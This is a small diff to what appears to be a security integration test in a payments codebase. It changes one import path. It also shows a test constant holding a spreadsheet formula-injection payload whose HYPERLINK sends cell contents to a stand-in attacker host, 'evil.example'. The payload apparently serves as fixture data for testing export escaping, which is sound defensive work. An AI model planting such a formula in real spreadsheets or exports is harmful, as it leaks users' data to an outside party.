@@ -13,7 +13,7 @@ from jivapay.domain.identity.roles import Role
 from jivapay.domain.ledger import posting as L
 from jivapay.services.ledger import posting as ledger
 from tests.factories import bearer, make_api_key, token_for
-from tests.integration.security.conftest import World
+from tests.integration.conftest import World
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open receipt")'
 
